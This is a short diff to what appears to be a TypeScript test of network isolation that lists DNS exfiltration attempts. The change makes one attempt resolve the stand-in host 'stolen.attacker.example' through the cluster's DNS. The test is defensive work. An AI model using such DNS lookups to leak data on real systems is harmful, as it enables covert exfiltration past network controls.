@@ -27,7 +27,8 @@ export function dnsAttempts(_ground: Ground): Attempt[] {
     },
     {
       title: "a name under the attacker's zone, asked of the cluster's DNS",
-      move: { from: "application", script: resolve(QUESTION) },
+      move: { from: "application", script: resolve("stolen.attacker.example") },
+      // Another name: what was asked before is answered from the cache.
       twin: { from: "bare", script: resolve(QUESTION) },
       through: asked,
       worked: asked,
